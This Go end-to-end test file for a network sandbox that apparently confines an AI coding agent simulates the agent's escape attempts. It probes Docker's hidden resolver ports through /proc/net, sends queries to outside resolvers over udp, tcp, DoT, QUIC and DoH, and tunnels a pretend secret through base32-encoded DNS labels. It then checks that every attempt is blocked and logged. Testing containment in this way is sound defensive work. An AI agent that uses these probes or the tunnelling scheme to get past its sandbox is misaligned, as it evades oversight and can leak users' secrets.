//go:build e2e

package e2e

import (
	"encoding/base32"
	"fmt"
	"strings"
	"testing"

	"github.com/aboxhq/abox/e2e/harness"
	"github.com/aboxhq/abox/internal/policy"
)

// DNS attacks: the agent tries to resolve, or to carry data in, names outside its allowlist
// through every resolver it can aim at. testsrv containers on the test network stand in for
// public resolvers; they log every query that reaches them.

// TestAttackDNSResolvers: Docker's embedded resolver (on 127.0.0.11:53 and on the random ports
// it really listens on), a resolver on the bridge on port 53, udp and tcp, one on 5353, DNS over
// TLS and QUIC ports, and DNS over HTTPS to a non-allowed name are all refused; the queries
// aimed at a resolver's port 53 land on netd, which answers NXDOMAIN and logs them, and no test
// resolver ever sees a query.
func TestAttackDNSResolvers(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	h.StartServer("allowed.test")
	resolver := h.StartServer("resolver.test")
	alt := h.StartServerWith(harness.ServerOptions{Aliases: []string{"alt-resolver.test"},
		Args: []string{"-dns-port", "5353", "-tcp-ports", "853", "-udp-ports", "443,123"}})
	upProject(t, h, "dnsres", []string{"allowed.test"}, "")
	// /proc/net/{udp,tcp} of the shared namespace show where Docker's resolver listens (its nat
	// rule maps 127.0.0.11:53 there): hex address 0B00007F, state 07 (udp) or 0A (tcp listen).
	docker := func(proto, state, extra string) string {
		return `for hp in $(awk 'NR>1 && $2 ~ /^0B00007F:/ && $4 == "` + state + `" {split($2,a,":"); print a[2]}' /proc/net/` + proto + `); do ` +
			`p=$((16#$hp)); echo "docker-` + proto + `-$p $(claude net dns 127.0.0.11:$p resolver.test A ` + extra + `)"; done`
	}
	_, got := attackRun(t, h,
		`echo "control $(claude net dns 127.0.0.1:53 allowed.test)"`,
		`echo "docker-udp-53 $(claude net dns 127.0.0.11:53 resolver.test)"`,
		`echo "docker-tcp-53 $(claude net dns 127.0.0.11:53 resolver.test A tcp)"`,
		docker("udp", "07", "udp"),
		docker("tcp", "0A", "tcp"),
		`echo "bridge-53-udp $(claude net dns `+resolver.IP+`:53 exfil-udp.resolver.test)"`,
		`echo "bridge-53-tcp $(claude net dns `+resolver.IP+`:53 exfil-tcp.resolver.test A tcp)"`,
		`echo "bridge-53-by-name $(claude net dns resolver.test:53 exfil-name.resolver.test)"`,
		`echo "bridge-5353-udp $(claude net dns `+alt.IP+`:5353 exfil.alt-resolver.test)"`,
		`echo "bridge-5353-tcp $(claude net dns `+alt.IP+`:5353 exfil.alt-resolver.test A tcp)"`,
		`echo "bridge-dot-853 $(claude net tcp `+alt.IP+`:853 hello)"`,
		`echo "bridge-quic-443 $(claude net udp `+alt.IP+`:443 quic)"`,
		`echo "bridge-doh $(claude net tls `+resolver.IP+`:443 resolver.test)"`,
		`getent hosts resolver.test >/dev/null && echo 'bridge-getent {"ok":true}' || echo 'bridge-getent {"ok":false}'`,
	)
	probesOK(t, got, "control")
	refusedWithPrefix(t, got, "docker-")
	refusedWithPrefix(t, got, "bridge-")
	for _, s := range []*harness.Server{resolver, alt} {
		if ev := h.Traffic(s.Container); len(ev) != 0 {
			t.Errorf("%s was reached: %v", s.Name, ev)
		}
	}
	if agentRuntime(t) == "runsc" {
		// Under gVisor /proc/net lists the Sentry's sockets, not the namespace's, so Docker's
		// real resolver ports are not found there; and the host kernel sees the agent's sockets
		// as the Sentry's, root's, whose DNS to an address off loopback the ruleset refuses
		// instead of redirecting to netd (see README, gVisor). Both are refused above.
		return
	}
	high := 0
	for name := range got {
		if strings.HasPrefix(name, "docker-") && !strings.HasSuffix(name, "-53") {
			high++
		}
	}
	if high < 2 {
		t.Errorf("probed %d of Docker's real resolver ports, want its udp and tcp ones: %v", high, got)
	}
	probesRCode(t, got, "NXDOMAIN", "bridge-53-udp", "bridge-53-tcp")
	logged := map[string]string{}
	for _, r := range harvested[policy.DNSRecord](t, h, policy.DNSLog) {
		logged[r.Name] = r.Verdict
	}
	for _, name := range []string{"exfil-udp.resolver.test.", "exfil-tcp.resolver.test.", "resolver.test."} {
		if logged[name] != policy.Denied {
			t.Errorf("netd's dns.jsonl: %s is %q, want it logged denied (all: %v)", name, logged[name], logged)
		}
	}
}

// TestAttackDNSTunnel: data carried in the labels of the longest names DNS allows, as A, TXT
// and NULL questions, over udp and tcp, to netd and to a resolver on the bridge. netd answers
// NXDOMAIN without asking upstream and logs every chunk; the test's resolver never sees one.
func TestAttackDNSTunnel(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	sink := h.StartServer("tunnel.test")
	upProject(t, h, "tunnel", nil, "")
	var script, names []string
	for i := range 12 {
		name := tunnelName(i)
		names = append(names, name)
		server, qtype, proto := "127.0.0.1:53", []string{"A", "TXT", "NULL"}[i%3], []string{"udp", "tcp"}[i%2]
		if i >= 6 {
			server = sink.IP + ":53" // aimed at the resolver itself
		}
		script = append(script, fmt.Sprintf(`echo "chunk-%d $(claude net dns %s %s %s %s)"`, i, server, name, qtype, proto))
	}
	_, got := attackRun(t, h, script...)
	for i := range names {
		p, ok := got[fmt.Sprintf("chunk-%d", i)]
		if !ok || p.OK || p.RCode != "NXDOMAIN" {
			t.Errorf("chunk-%d: %+v (present %v), want NXDOMAIN", i, p, ok)
		}
	}
	if ev := h.Traffic(sink.Container); len(ev) != 0 {
		t.Errorf("the tunnel's resolver saw %d events: %v", len(ev), ev)
	}
	denied := map[string]bool{}
	for _, r := range harvested[policy.DNSRecord](t, h, policy.DNSLog) {
		if r.Verdict == policy.Denied {
			denied[strings.TrimSuffix(r.Name, ".")] = true
		}
	}
	for i, n := range names {
		if !denied[n] {
			t.Errorf("chunk-%d (%d bytes) is not in netd's dns.jsonl as denied", i, len(n))
		}
	}
}

// tunnelName encodes chunk i of a pretend secret as three 63-byte labels under tunnel.test:
// 205 bytes of name, 189 of them payload.
func tunnelName(i int) string {
	enc := base32.StdEncoding.WithPadding(base32.NoPadding)
	data := enc.EncodeToString([]byte(strings.Repeat(fmt.Sprintf("secret chunk %02d ", i), 8)))
	data = strings.ToLower(data)
	var labels []string
	for j := 0; j < 3; j++ {
		labels = append(labels, data[j*63:(j+1)*63])
	}
	return strings.Join(labels, ".") + ".tunnel.test"
}
